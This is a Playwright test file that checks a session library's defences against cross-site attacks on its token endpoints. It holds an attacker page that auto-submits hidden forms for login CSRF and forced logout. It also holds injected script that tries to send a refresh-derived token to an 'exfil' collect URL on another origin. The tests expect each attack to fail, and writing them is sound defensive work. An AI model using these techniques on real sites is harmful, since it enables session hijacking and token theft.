// Cross-site attacks on the reference server's token endpoints, from a real
// page of the second origin (issue 16, items 1, 4 and the worker CSP of 8).
// The second origin is the same host on another port: same-site, so the
// browser sends it, and forms it posts, the SameSite=Strict refresh cookie,
// like a sibling subdomain an attacker controls. Tokens are compared as booleans.
import type { BrowserContext, Page } from '@playwright/test'
import { SECOND_PORT } from '../../playwright.config.js'
import { expect, test } from '../support/fixtures.js'
import { login, state } from '../support/harness.js'
import { ORIGIN, SECOND_ORIGIN } from '../support/server.js'
import { openTab } from '../support/termination.js'

const BOB = { username: 'bob', password: 'battery staple' }
const REFRESH_COOKIE = '__Host-sv_rt'

/** The attacker's own refresh token: bob signs in from outside the browser. */
async function attackerRefreshToken(): Promise<string> {
  const response = await fetch(`${ORIGIN}/auth/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Session-Vault': '1' },
    body: JSON.stringify(BOB),
  })
  expect(response.status).toBe(200)
  await response.arrayBuffer()
  const token = new RegExp(`${REFRESH_COOKIE}=([^;]+)`).exec(response.headers.get('set-cookie') ?? '')?.[1]
  expect(Boolean(token)).toBe(true)
  return token!
}

/**
 * Opens an attacker's page on the second origin in a new tab of the victim's
 * browser: it auto-submits a form (a CORS "simple" request, no custom header
 * possible) to `action`. Resolves with the status the server answered.
 */
async function crossSiteForm(context: BrowserContext, action: string, fields: Record<string, string>): Promise<number> {
  const evil = await context.newPage()
  const inputs = Object.entries(fields)
    .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
    .join('')
  await evil.route(`${SECOND_ORIGIN}/attacker.html`, route =>
    route.fulfill({
      status: 200,
      contentType: 'text/html; charset=utf-8',
      body: `<!doctype html><title>cute cats</title><form method="post" action="${action}">${inputs}</form><script>document.forms[0].submit()</script>`,
    }),
  )
  const answered = evil.waitForResponse(response => response.url() === action && response.request().method() === 'POST')
  await evil.goto(`${SECOND_ORIGIN}/attacker.html`)
  const status = (await answered).status()
  await evil.waitForLoadState()
  await evil.close()
  return status
}

async function whoAmI(page: Page): Promise<unknown> {
  return page.evaluate(() =>
    window.attempt(async () => {
      const response: Response = await window.session.fetch('/api/me')
      return response.status === 200 ? (await response.json()).username : response.status
    }),
  )
}

async function hasCookie(context: BrowserContext, name: string): Promise<boolean> {
  return (await context.cookies(ORIGIN)).some(cookie => cookie.name === name && cookie.value !== '')
}

test("login CSRF: a second-origin page posting the attacker's refresh token to /auth/refresh does not switch the victim's tab from alice to bob", async ({
  server,
  context,
}) => {
  const { page: victim } = await openTab(context)
  expect(await login(victim)).toEqual({ ok: true })
  expect(await whoAmI(victim)).toEqual({ ok: true, value: 'alice' })

  const status = await crossSiteForm(context, `${ORIGIN}/auth/refresh`, {
    grant_type: 'refresh_token',
    refresh_token: await attackerRefreshToken(),
  })

  // The victim's tab refreshes at its next call: still alice, still signed in.
  await server.post('/test/expire-access')
  expect(await whoAmI(victim)).toEqual({ ok: true, value: 'alice' })
  expect(await state(victim)).toBe('authenticated')
  // And a new tab restores alice's session, not the attacker's.
  const { page: fresh, state: restored } = await openTab(context)
  expect(restored).toBe('authenticated')
  expect(await whoAmI(fresh)).toEqual({ ok: true, value: 'alice' })
  // The server refused the form outright.
  expect(status).toBe(403)
})

test('forced logout: a second-origin form to /auth/logout ends nothing and wipes no cookie', async ({
  server,
  context,
}) => {
  const { page: victim } = await openTab(context)
  expect(await login(victim)).toEqual({ ok: true })
  expect(await hasCookie(context, REFRESH_COOKIE)).toBe(true)
  const before = await server.counters()

  const status = await crossSiteForm(context, `${ORIGIN}/auth/logout`, { token_type_hint: 'refresh_token' })

  // No Clear-Site-Data ran: the HttpOnly refresh cookie is still in the browser, the session is live.
  expect(await hasCookie(context, REFRESH_COOKIE)).toBe(true)
  await server.post('/test/expire-access')
  expect(await whoAmI(victim)).toEqual({ ok: true, value: 'alice' })
  const { state: restored } = await openTab(context)
  expect(restored).toBe('authenticated')
  expect((await server.counters()).logout).toBe(before.logout)
  expect(status).toBe(403)
})

test("a failed cross-site refresh does not clear the victim's refresh cookie", async ({ context }) => {
  const { page: victim } = await openTab(context)
  expect(await login(victim)).toEqual({ ok: true })

  const status = await crossSiteForm(context, `${ORIGIN}/auth/refresh`, {
    grant_type: 'refresh_token',
    refresh_token: 'garbage',
  })
  expect(await hasCookie(context, REFRESH_COOKIE)).toBe(true)
  const { state: restored } = await openTab(context)
  expect(restored).toBe('authenticated')
  expect(status).toBe(403)
})

test('worker CSP: a second vault that injected script creates with its own trustedOrigins cannot send a token to another origin', async ({
  server,
  context,
}) => {
  const { page } = await openTab(context)
  expect(await login(page)).toEqual({ ok: true })

  // Injected script: a vault of its own (same worker URL, same origin) that trusts the attacker's
  // origin. At start-up it restores the session through the refresh cookie and holds a token.
  // (`localhost` is the second origin's server under a host name the test-mode worker CSP does not list.)
  const exfil = `http://localhost:${SECOND_PORT}/collect`
  const outcome = await page.evaluate(async url => {
    const rogue = window.SessionVault.createSession({
      auth: { type: 'token', loginUrl: '/auth/login', refreshUrl: '/auth/refresh' },
      trustedOrigins: [location.origin, new URL(url).origin],
      idle: false,
      dialog: false,
      channel: 'rogue',
    })
    await rogue.ready
    const signedIn = rogue.state
    const sent = await window.attempt(async () => (await rogue.fetch(url)).status)
    rogue.destroy()
    return { signedIn, sent }
  }, exfil)
  expect(outcome.signedIn).toBe('authenticated')
  expect(outcome.sent.ok).toBe(false)
  // The browser blocked it in the worker: nothing reached the other server, preflight included.
  expect(await server.secondOriginLog()).toEqual([])
  expect(await state(page)).toBe('authenticated')
})

test('the page itself signs in and stays signed in under the worker CSP', async ({ signedIn: page }) => {
  expect(await whoAmI(page)).toEqual({ ok: true, value: 'alice' })
  const csp = await page.evaluate(async () =>
    (await fetch('/assets/vault.worker.js', { cache: 'no-store' })).headers.get('content-security-policy'),
  )
  expect(csp).toBe(`default-src 'none'; connect-src ${ORIGIN} http://127.0.0.1:*`)
})
